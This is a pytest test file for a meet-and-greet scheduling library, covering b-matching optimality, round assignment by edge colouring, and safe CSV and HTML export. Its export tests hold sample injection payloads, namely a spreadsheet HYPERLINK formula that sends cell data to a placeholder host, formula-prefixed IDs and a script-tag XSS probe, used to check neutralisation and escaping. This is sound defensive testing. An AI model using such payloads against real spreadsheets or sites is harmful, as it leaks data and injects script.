"""Meet & Greet planning: exact b-matching, rounds by edge colouring, safe CSV and HTML output."""

from __future__ import annotations

import csv
import html
import math
import os
import random
from collections import Counter
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import scipy.optimize
from hypothesis import HealthCheck, given, settings, strategies as st

import wbamatch
from factories import AMERSFOORT, cand, pkg
from strategies import configs, problems
from wbamatch import InputError, MatchConfig, SolverError, compatibility
from wbamatch._cells import neutralise as _neutralise
from wbamatch._compatibility import near_miss_mask
from wbamatch._constraints import code_mask, decode
from wbamatch._meetgreet import (
    CSV_BY_CANDIDATE,
    CSV_BY_PACKAGE,
    CSV_PACKAGE_COLUMNS,
    MeetGreetPlan,
    plan_meet_and_greet,
)
from wbamatch._meetgreet._matching import b_matching as _b_matching
from wbamatch._meetgreet._rounds import edge_colouring as _edge_colouring
from wbamatch._vocabulary import DIMENSIONS
from wbamatch.rules import REASON_CODES, REGISTRY, RULES

SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])

Pair = tuple[str, str]


def loose_configs() -> st.SearchStrategy[dict[str, Any]]:
    """Configs that relax several rules, so generated problems have pairs to plan."""
    relaxable = [r for r in RULES if r != "excluded"]
    return st.fixed_dictionaries(
        {
            "min_score": st.sampled_from([0.0, 0.0, 0.3, 0.5]),
            "rules": st.fixed_dictionaries(
                {r: st.sampled_from(["off", "off", "off", "penalty", "hard"]) for r in relaxable}
            ),
        }
    )


# ---------------------------------------------------------------------------------------------
# Independent references
# ---------------------------------------------------------------------------------------------
def near(comp: wbamatch.Compatibility, i: int, j: int) -> bool:
    """Whether the one rule pair (i, j) breaks counts it as near passing (MatchConfig.near_miss)."""
    (code,) = decode(comp.violations[i, j] & code_mask(comp.config, "hard"))
    index = np.array([REGISTRY.codes.index(code)])
    at = np.array([i], dtype=np.intp), np.array([j], dtype=np.intp)
    minutes = np.array([comp.minutes[i, j]])
    return bool(near_miss_mask(comp.candidates, comp.packages, comp.config, *at, index, minutes)[0])


def eligible_pairs(
    comp: wbamatch.Compatibility, near_misses: bool
) -> dict[Pair, tuple[float, str | None]]:
    """Pairs that may meet, pair by pair (the spec, written without the module's arrays)."""
    cfg = comp.config
    hard = code_mask(cfg, "hard")
    out: dict[Pair, tuple[float, str | None]] = {}
    for i, cid in enumerate(comp.candidate_ids):
        for j, pid in enumerate(comp.package_ids):
            codes = decode(comp.violations[i, j] & hard)
            if not codes:
                weight, flag = float(comp.scores[i, j]), None
            elif near_misses and len(codes) == 1 and codes[0] != "excluded" and near(comp, i, j):
                weight, flag = float(comp.raw_scores[i, j]), codes[0]
            else:
                continue
            if weight >= cfg.min_score and weight > 0:
                out[(cid, pid)] = (weight, flag)
    return out


def brute_best(weights: dict[Any, float], cap_a: int, cap_b: int) -> float:
    """Best total over every subset of pairs ``(a, b)`` within the degree caps (exhaustive)."""
    edges = sorted(weights.items())
    best = 0.0
    deg_a: Counter[Any] = Counter()
    deg_b: Counter[Any] = Counter()

    def rec(k: int, total: float) -> None:
        nonlocal best
        if k == len(edges):
            best = max(best, total)
            return
        (a, b), w = edges[k]
        rec(k + 1, total)
        if deg_a[a] < cap_a and deg_b[b] < cap_b:
            deg_a[a] += 1
            deg_b[b] += 1
            rec(k + 1, total + w)
            deg_a[a] -= 1
            deg_b[b] -= 1

    rec(0, 0.0)
    return best


def check_plan(
    plan: MeetGreetPlan,
    eligible: dict[Pair, tuple[float, str | None]],
    rounds: int,
    per_candidate: int,
    per_package: int,
) -> None:
    """Every structural promise of a plan."""
    pairs = [(m.candidate_id, m.package_id) for m in plan.meetings]
    assert len(set(pairs)) == len(pairs), "a pair meets twice"
    # Only eligible pairs, with the right weight and flag.
    for m in plan.meetings:
        weight, flag = eligible[(m.candidate_id, m.package_id)]
        assert m.score == weight
        assert m.near_miss == flag
    # Nobody is double-booked in a round.
    by_round: dict[int, list[tuple[str, str]]] = {}
    for m in plan.meetings:
        by_round.setdefault(m.round, []).append((m.candidate_id, m.package_id))
    for in_round in by_round.values():
        assert len({c for c, _ in in_round}) == len(in_round)
        assert len({p for _, p in in_round}) == len(in_round)
    # Degrees within the limits, capped by the rounds.
    deg_c = Counter(c for c, _ in pairs)
    deg_p = Counter(p for _, p in pairs)
    assert max(deg_c.values(), default=0) <= min(per_candidate, rounds)
    assert max(deg_p.values(), default=0) <= min(per_package, rounds)
    # Rounds: within the event, 1-based, and exactly the maximum degree (König).
    delta = max([*deg_c.values(), *deg_p.values()], default=0)
    assert plan.rounds_used == delta <= rounds
    assert all(1 <= m.round <= plan.rounds_used for m in plan.meetings)
    # Sorted, totals consistent.
    keys = [(m.round, m.package_id, m.candidate_id) for m in plan.meetings]
    assert keys == sorted(keys)
    assert plan.total_score == pytest.approx(math.fsum(m.score for m in plan.meetings), abs=1e-9)
    # Dropped / replacements describe the uncapped optimum exactly.
    final = set(pairs)
    dropped = {(d.candidate_id, d.package_id) for d in plan.dropped}
    added = {(d.candidate_id, d.package_id) for d in plan.replacements}
    assert not dropped & final and added <= final
    uncapped = (final - added) | dropped
    assert all(pair in eligible for pair in uncapped)
    assert plan.uncapped_total_score == pytest.approx(
        math.fsum(eligible[pair][0] for pair in uncapped), abs=1e-9
    )
    assert max(Counter(c for c, _ in uncapped).values(), default=0) <= per_candidate
    assert max(Counter(p for _, p in uncapped).values(), default=0) <= per_package
    if rounds >= max(per_candidate, per_package):
        assert not plan.dropped and not plan.replacements
    # Without-meeting lists.
    assert set(plan.candidates_without_meeting).isdisjoint(deg_c)
    assert set(plan.packages_without_meeting).isdisjoint(deg_p)
    assert plan.n_eligible_pairs == len(eligible)


# ---------------------------------------------------------------------------------------------
# Properties on generated problems
# ---------------------------------------------------------------------------------------------
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    problem=problems(max_candidates=5, max_packages=3),
    config=st.one_of(configs(), loose_configs()),
    rounds=st.integers(1, 4),
    per_candidate=st.integers(1, 3),
    per_package=st.integers(1, 4),
    near_misses=st.booleans(),
)
def test_plan_is_valid_and_optimal(
    problem: tuple[list[Any], list[Any]],
    config: dict[str, Any],
    rounds: int,
    per_candidate: int,
    per_package: int,
    near_misses: bool,
) -> None:
    cands, packs = problem
    plan = plan_meet_and_greet(
        cands, packs, rounds, per_candidate, per_package, config, near_misses=near_misses
    )
    comp = compatibility(cands, packs, config)
    eligible = eligible_pairs(comp, near_misses)
    check_plan(plan, eligible, rounds, per_candidate, per_package)
    weights = {pair: w for pair, (w, _) in eligible.items()}
    best = brute_best(weights, min(per_candidate, rounds), min(per_package, rounds))
    assert plan.total_score == pytest.approx(best, abs=1e-7)
    uncapped = brute_best(weights, per_candidate, per_package)
    assert plan.uncapped_total_score == pytest.approx(uncapped, abs=1e-7)
    if not near_misses:
        assert all(m.near_miss is None for m in plan.meetings)


@SETTINGS
@given(problem=problems(), config=loose_configs(), data=st.data(), near_misses=st.booleans())
def test_plan_does_not_depend_on_input_order(
    problem: tuple[list[Any], list[Any]],
    config: dict[str, Any],
    data: st.DataObject,
    near_misses: bool,
) -> None:
    cands, packs = problem
    args = (2, 2, 3, config)
    plan = plan_meet_and_greet(cands, packs, *args, near_misses=near_misses)
    shuffled = plan_meet_and_greet(
        data.draw(st.permutations(cands)),
        data.draw(st.permutations(packs)),
        *args,
        near_misses=near_misses,
    )
    assert shuffled == plan
    assert shuffled.model_dump_json() == plan.model_dump_json()


@SETTINGS
@given(
    problem=problems(), config=loose_configs(), rounds=st.integers(1, 3), near_misses=st.booleans()
)
def test_json_round_trip(
    problem: tuple[list[Any], list[Any]], config: dict[str, Any], rounds: int, near_misses: bool
) -> None:
    plan = plan_meet_and_greet(*problem, rounds, 2, 2, config, near_misses=near_misses)
    assert MeetGreetPlan.model_validate_json(plan.model_dump_json()) == plan


# ---------------------------------------------------------------------------------------------
# The algorithms on arrays
# ---------------------------------------------------------------------------------------------
@st.composite
def bipartite(draw: st.DrawFn, max_side: int = 6) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    n = draw(st.integers(1, max_side))
    m = draw(st.integers(1, max_side))
    cells = [(i, j) for i in range(n) for j in range(m)]
    chosen = sorted(draw(st.sets(st.sampled_from(cells), max_size=len(cells))))
    # Few distinct weights: many ties.
    weights = [draw(st.sampled_from([0.1, 0.25, 0.5, 0.5, 0.75, 1.0])) for _ in chosen]
    rows = np.array([i for i, _ in chosen], dtype=np.intp)
    cols = np.array([j for _, j in chosen], dtype=np.intp)
    return rows, cols, np.array(weights, dtype=np.float64)


@settings(max_examples=150, deadline=None)
@given(graph=bipartite(max_side=4), row_cap=st.integers(1, 3), col_cap=st.integers(1, 3))
def test_b_matching_equals_brute_force(
    graph: tuple[np.ndarray, np.ndarray, np.ndarray], row_cap: int, col_cap: int
) -> None:
    rows, cols, weights = graph
    chosen = _b_matching(rows, cols, weights, (4, 4), row_cap, col_cap)
    assert np.bincount(rows[chosen], minlength=4).max() <= row_cap
    assert np.bincount(cols[chosen], minlength=4).max() <= col_cap
    reference = brute_best(
        {(int(i), int(j)): float(w) for i, j, w in zip(rows, cols, weights, strict=True)},
        row_cap,
        col_cap,
    )
    assert float(weights[chosen].sum()) == pytest.approx(reference, abs=1e-7)


@settings(max_examples=200, deadline=None)
@given(graph=bipartite(max_side=7))
def test_edge_colouring_is_proper_with_max_degree_colours(
    graph: tuple[np.ndarray, np.ndarray, np.ndarray],
) -> None:
    rows, cols, _ = graph
    colours = _edge_colouring(rows, cols)
    delta = max([*Counter(rows.tolist()).values(), *Counter(cols.tolist()).values()], default=0)
    assert colours.shape == rows.shape
    assert set(colours.tolist()) == set(range(delta))  # König: exactly Δ colours
    seen: set[tuple[str, int, int]] = set()
    for i, j, c in zip(rows.tolist(), cols.tolist(), colours.tolist(), strict=True):
        assert ("r", i, c) not in seen and ("c", j, c) not in seen
        seen |= {("r", i, c), ("c", j, c)}
    sizes = np.bincount(colours, minlength=delta) if delta else np.zeros(0)
    assert list(sizes) == sorted(sizes, reverse=True)  # fullest round first
    assert np.array_equal(_edge_colouring(rows, cols), colours)  # deterministic


def test_fractional_lp_answer_falls_back_to_milp(monkeypatch: pytest.MonkeyPatch) -> None:
    data = wbamatch.demo_data()
    expected = plan_meet_and_greet(*data, rounds=2, per_candidate=2, per_package=3)

    def fractional(c: np.ndarray, **kwargs: Any) -> SimpleNamespace:
        return SimpleNamespace(status=0, x=np.full(len(c), 0.5))

    monkeypatch.setattr(scipy.optimize, "linprog", fractional)  # imported lazily
    plan = plan_meet_and_greet(*data, rounds=2, per_candidate=2, per_package=3)
    assert plan.total_score == pytest.approx(expected.total_score, abs=1e-9)
    assert plan.uncapped_total_score == pytest.approx(expected.uncapped_total_score, abs=1e-9)

    def failing(*args: Any, **kwargs: Any) -> SimpleNamespace:
        return SimpleNamespace(status=4, x=None, message="numerical trouble")

    monkeypatch.setattr(scipy.optimize, "milp", failing)
    with pytest.raises(SolverError, match="numerical trouble"):
        plan_meet_and_greet(*data, rounds=2, per_candidate=2, per_package=3)


def test_edge_colouring_of_complete_bipartite_graph() -> None:
    n, m = 6, 9
    rows, cols = (a.ravel() for a in np.meshgrid(np.arange(n), np.arange(m), indexing="ij"))
    colours = _edge_colouring(rows, cols)
    assert len(set(colours.tolist())) == m
    for k in range(m):
        assert len(set(rows[colours == k].tolist())) == n  # every round everyone busy


# ---------------------------------------------------------------------------------------------
# Worked examples
# ---------------------------------------------------------------------------------------------
def _three_candidates_one_package() -> tuple[list[Any], list[Any]]:
    package = pkg("p-1", tasks=["archiving", "scanning"])
    cands = [
        cand("c-a", skills=["archiving", "scanning"]),
        cand("c-b", skills=["archiving"]),
        cand("c-c", skills=["cleaning"]),
    ]
    return cands, [package]


def test_lowest_scoring_meeting_is_dropped_when_rounds_are_too_few() -> None:
    cands, packs = _three_candidates_one_package()
    comp = compatibility(cands, packs)
    scores = {cid: float(comp.scores[i, 0]) for i, cid in enumerate(comp.candidate_ids)}
    assert all(comp.feasible[:, 0]) and len(set(scores.values())) == 3
    lowest = min(scores, key=scores.__getitem__)

    plan = plan_meet_and_greet(cands, packs, rounds=2, per_candidate=1, per_package=3)
    assert plan.rounds_used == 2
    assert {m.candidate_id for m in plan.meetings} == set(scores) - {lowest}
    assert [(d.candidate_id, d.package_id) for d in plan.dropped] == [(lowest, "p-1")]
    assert plan.dropped[0].score == scores[lowest]
    assert plan.replacements == []
    assert plan.uncapped_total_score == pytest.approx(sum(scores.values()))
    assert plan.total_score == pytest.approx(sum(scores.values()) - scores[lowest])
    assert plan.candidates_without_meeting == [lowest]

    roomy = plan_meet_and_greet(cands, packs, rounds=3, per_candidate=1, per_package=3)
    assert roomy.rounds_used == 3 and roomy.dropped == [] and len(roomy.meetings) == 3
    assert sorted(m.round for m in roomy.meetings) == [1, 2, 3]


def test_a_freed_candidate_meets_someone_else_and_is_reported_as_replacement() -> None:
    # Everyone prefers p-1; with 3 per package all meet p-1, but 2 rounds allow only 2 there,
    # so the best plan sends one of them to the (worse, farther) p-2 instead.
    cands, packs = _three_candidates_one_package()
    packs.append(pkg("p-2", tasks=["inspections"], location=AMERSFOORT))
    comp = compatibility(cands, packs)
    assert comp.feasible.all() and (comp.scores[:, 0] > comp.scores[:, 1]).all()
    plan = plan_meet_and_greet(cands, packs, rounds=2, per_candidate=1, per_package=3)
    eligible = eligible_pairs(comp, near_misses=False)
    check_plan(plan, eligible, 2, 1, 3)
    weights = {pair: w for pair, (w, _) in eligible.items()}
    assert plan.total_score == pytest.approx(brute_best(weights, 1, 2))
    assert plan.uncapped_total_score == pytest.approx(float(comp.scores[:, 0].sum()))
    assert [d.package_id for d in plan.dropped] == ["p-1"]
    assert [r.package_id for r in plan.replacements] == ["p-2"]
    assert plan.dropped[0].candidate_id == plan.replacements[0].candidate_id


def test_rounds_used_equals_max_degree_when_rounds_suffice() -> None:
    cands, packs = wbamatch.demo_data()
    plan = plan_meet_and_greet(cands, packs, rounds=10, per_candidate=3, per_package=4)
    degree = Counter(m.package_id for m in plan.meetings) + Counter(
        m.candidate_id for m in plan.meetings
    )
    assert plan.rounds_used == max(degree.values())
    assert plan.dropped == [] and plan.total_score == plan.uncapped_total_score


def test_near_misses_are_flagged_and_only_when_asked() -> None:
    cands = [
        cand("c-coach", needs={"jobcoach": True}),  # breaks exactly one rule: jobcoach
        cand("c-two", needs={"jobcoach": True, "structure": True}),  # breaks two
        cand("c-no", excluded_packages=["p-1"]),  # said no: never a near miss
    ]
    packs = [pkg("p-1", offers={"jobcoach": False, "structure": False})]
    strict = plan_meet_and_greet(cands, packs, 3, 1, 3)
    assert strict.meetings == [] and strict.rounds_used == 0
    assert strict.total_score == 0 and strict.packages_without_meeting == ["p-1"]

    loose = plan_meet_and_greet(cands, packs, 3, 1, 3, near_misses=True)
    assert [(m.candidate_id, m.near_miss) for m in loose.meetings] == [("c-coach", "jobcoach")]
    comp = compatibility(cands, packs)
    assert loose.meetings[0].score == float(comp.raw_scores[0, 0])
    assert loose.n_near_miss_pairs == 1


def test_min_score_is_respected() -> None:
    cands, packs = _three_candidates_one_package()
    comp = compatibility(cands, packs)
    middle = float(np.median(comp.scores[:, 0]))
    plan = plan_meet_and_greet(cands, packs, 3, 1, 3, MatchConfig(min_score=middle))
    assert len(plan.meetings) == 2 and all(m.score >= middle for m in plan.meetings)


def test_grouping_by_package_and_candidate() -> None:
    plan = plan_meet_and_greet(*wbamatch.demo_data(), rounds=3, per_candidate=2, per_package=3)
    by_package, by_candidate = plan.by_package(), plan.by_candidate()
    assert list(by_package) == sorted(by_package)
    assert list(by_candidate) == sorted(by_candidate)
    for meetings in [*by_package.values(), *by_candidate.values()]:
        assert [m.round for m in meetings] == sorted(m.round for m in meetings)
    assert sum(map(len, by_package.values())) == len(plan.meetings)
    assert sum(map(len, by_candidate.values())) == len(plan.meetings)


@pytest.mark.parametrize("name", ["rounds", "per_candidate", "per_package"])
@pytest.mark.parametrize("bad", [0, -1, 1.5, True, "2", None])
def test_arguments_must_be_positive_integers(name: str, bad: Any) -> None:
    args = {"rounds": 2, "per_candidate": 2, "per_package": 2, name: bad}
    with pytest.raises(InputError, match=name):
        plan_meet_and_greet(*wbamatch.demo_data(), **args)


def test_numpy_integers_are_accepted() -> None:
    plan = plan_meet_and_greet(*wbamatch.demo_data(), np.int64(2), np.int32(1), np.int64(2))
    assert plan.rounds == 2 and type(plan.rounds) is int


# ---------------------------------------------------------------------------------------------
# Files: CSV and HTML
# ---------------------------------------------------------------------------------------------
EVIL_CANDIDATE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
EVIL_IDS = [EVIL_CANDIDATE, "+SUM(1,2)", "-1+1", "@cmd", "<script>alert(1)</script>"]


def _evil_plan() -> MeetGreetPlan:
    cands = [cand(cid) for cid in EVIL_IDS]
    packs = [pkg("=1+1"), pkg("p-<b>&amp;")]
    plan = plan_meet_and_greet(cands, packs, rounds=5, per_candidate=2, per_package=5)
    assert len(plan.meetings) == 10  # everyone meets both packages
    return plan


def test_nothing_is_written_unless_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    plan_meet_and_greet(*wbamatch.demo_data(), rounds=3, per_candidate=2, per_package=3)
    assert list(tmp_path.iterdir()) == []


def test_csv_neutralises_formulas(tmp_path: Path) -> None:
    plan = _evil_plan()
    first, second = plan.to_csv(tmp_path / "out")
    assert (first.name, second.name) == (CSV_BY_PACKAGE, CSV_BY_CANDIDATE)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        [CSV_BY_PACKAGE, CSV_BY_CANDIDATE]
    )  # no temporary files left behind
    for path in (first, second):
        with path.open(newline="", encoding="utf-8") as fh:
            table = list(csv.reader(fh))
        cells = [cell for row in table for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
        assert "'" + EVIL_CANDIDATE in cells
        assert "'=1+1" in cells
        assert "<script>alert(1)</script>" in cells  # not a formula: left as it is
        assert len(table) == 1 + len(plan.meetings)
    with first.open(newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    assert header == list(CSV_PACKAGE_COLUMNS)
    at = header.index("round")
    assert [int(r[at]) for r in rows if r[0] == "'=1+1"] == sorted(
        m.round for m in plan.by_package()["=1+1"]
    )


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("c-1", "c-1"),
        ("0.500", "0.500"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, safe: str) -> None:
    assert _neutralise(cell) == safe


def test_html_is_escaped_printable_and_sectioned(tmp_path: Path) -> None:
    plan = _evil_plan()
    path = plan.to_html(tmp_path / "sub" / "schedule.html")
    assert path.exists() and [p.name for p in path.parent.iterdir()] == ["schedule.html"]
    text = path.read_text(encoding="utf-8")
    assert "<script>" not in text and "<b>" not in text
    assert html.escape("<script>alert(1)</script>") in text
    assert html.escape(EVIL_CANDIDATE, quote=True) in text
    assert html.escape("p-<b>&amp;") in text
    assert "font-size: 18pt" in text and "@media print" in text and "break-before: page" in text
    sections = text.count("<section>")
    assert sections == 1 + len(plan.by_package()) + len(plan.by_candidate())


def test_outputs_show_no_capacities_or_needs(tmp_path: Path) -> None:
    cands = [
        cand("c-1", needs={"jobcoach": True}, capacities={DIMENSIONS[0]: 1}),
        cand("c-2", needs={"structure": True}),
    ]
    packs = [pkg("p-1", offers={"jobcoach": False}), pkg("p-2", offers={"structure": False})]
    plan = plan_meet_and_greet(cands, packs, 2, 2, 2, near_misses=True)
    assert {m.near_miss for m in plan.meetings} >= {"jobcoach", "structure"}
    texts = [plan.to_html(tmp_path / "s.html").read_text(encoding="utf-8")]
    texts += [p.read_text(encoding="utf-8") for p in plan.to_csv(tmp_path)]
    for text in texts:
        lowered = text.lower()
        for word in [*REASON_CODES, *DIMENSIONS, "capacit", "need", "slots", "hours"]:
            assert word.lower() not in lowered, word


def test_failed_write_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plan = plan_meet_and_greet(*wbamatch.demo_data(), rounds=2, per_candidate=1, per_package=2)

    def broken(src: Any, dst: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(OSError, match="disk full"):
        plan.to_csv(tmp_path)
    with pytest.raises(OSError, match="disk full"):
        plan.to_html(tmp_path / "x.html")
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------
# Size
# ---------------------------------------------------------------------------------------------
def test_synthetic_event_is_planned() -> None:
    cands, packs = wbamatch.synthetic(200, 40, seed=3)
    order = list(range(len(cands)))
    random.Random(1).shuffle(order)
    plan = plan_meet_and_greet(cands, packs, rounds=6, per_candidate=3, per_package=6)
    again = plan_meet_and_greet([cands[k] for k in order], packs[::-1], 6, 3, 6)
    assert again == plan
    assert plan.rounds_used <= 6 and plan.meetings
    comp = compatibility(cands, packs)
    check_plan(plan, eligible_pairs(comp, near_misses=False), 6, 3, 6)
